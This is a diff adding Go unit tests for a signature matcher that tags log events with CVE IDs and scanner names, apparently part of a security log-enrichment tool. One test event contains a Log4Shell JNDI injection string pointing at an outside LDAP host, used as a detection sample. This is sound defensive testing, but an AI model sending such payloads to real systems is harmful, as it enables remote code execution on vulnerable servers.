@@ -0,0 +1,99 @@
+package enrich
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"github.com/StefanGrimminck/Loom/internal/ecs"
+)
+
+func TestSignatureMatcher_BuiltinRules(t *testing.T) {
+	m, err := NewSignatureMatcher("", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if m.Len() == 0 {
+		t.Fatal("built-in rule pack should not be empty")
+	}
+
+	ev := map[string]interface{}{
+		"event": map[string]interface{}{"summary": "GET /?x=${jndi:ldap://1.2.3.4/a}"},
+	}
+	m.Apply(ev)
+	want := []interface{}{"CVE-2021-44228", "CVE-2021-45046"}
+	if got := ecs.Get(ev, "vulnerability.id"); !reflect.DeepEqual(got, want) {
+		t.Errorf("vulnerability.id = %v, want %v", got, want)
+	}
+
+	ev = map[string]interface{}{
+		"user_agent": map[string]interface{}{"original": "Mozilla/5.0 zgrab/0.x"},
+	}
+	m.Apply(ev)
+	if got := ecs.Get(ev, "threat.software.name"); !reflect.DeepEqual(got, []interface{}{"zgrab"}) {
+		t.Errorf("threat.software.name = %v", got)
+	}
+	if _, ok := ev["vulnerability"]; ok {
+		t.Error("tool-only rule should not add vulnerability")
+	}
+}
+
+func TestSignatureMatcher_NoMatch(t *testing.T) {
+	m, err := NewSignatureMatcher("", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ev := map[string]interface{}{
+		"event": map[string]interface{}{"summary": "GET /.well-known/security.txt"},
+	}
+	m.Apply(ev)
+	if _, ok := ev["vulnerability"]; ok {
+		t.Error("benign request should not be tagged")
+	}
+	if _, ok := ev["threat"]; ok {
+		t.Error("benign request should not be tagged")
+	}
+}
+
+func TestSignatureMatcher_CustomRulesFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "rules.toml")
+	rules := `
+[[rule]]
+name = "custom"
+contains = "/secret-admin"
+cve = ["CVE-2099-0001"]
+software = "custom-scanner"
+`
+	if err := os.WriteFile(path, []byte(rules), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	m, err := NewSignatureMatcher(path, []string{"url.original"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ev := map[string]interface{}{
+		"url": map[string]interface{}{"original": "/SECRET-ADMIN/login"},
+	}
+	m.Apply(ev)
+	if got := ecs.Get(ev, "vulnerability.id"); !reflect.DeepEqual(got, []interface{}{"CVE-2099-0001"}) {
+		t.Errorf("vulnerability.id = %v", got)
+	}
+	if got := ecs.Get(ev, "threat.software.name"); !reflect.DeepEqual(got, []interface{}{"custom-scanner"}) {
+		t.Errorf("threat.software.name = %v", got)
+	}
+}
+
+func TestParseSignatureRules_Invalid(t *testing.T) {
+	cases := map[string]string{
+		"both matchers": "[[rule]]\nname = \"x\"\ncontains = \"a\"\nregex = \"b\"\ncve = [\"CVE-1\"]\n",
+		"no matcher":    "[[rule]]\nname = \"x\"\ncve = [\"CVE-1\"]\n",
+		"no tags":       "[[rule]]\nname = \"x\"\ncontains = \"a\"\n",
+		"bad regex":     "[[rule]]\nname = \"x\"\nregex = \"(\"\ncve = [\"CVE-1\"]\n",
+	}
+	for name, data := range cases {
+		if _, err := parseSignatureRules([]byte(data)); err == nil {
+			t.Errorf("%s: expected error", name)
+		}
+	}
+}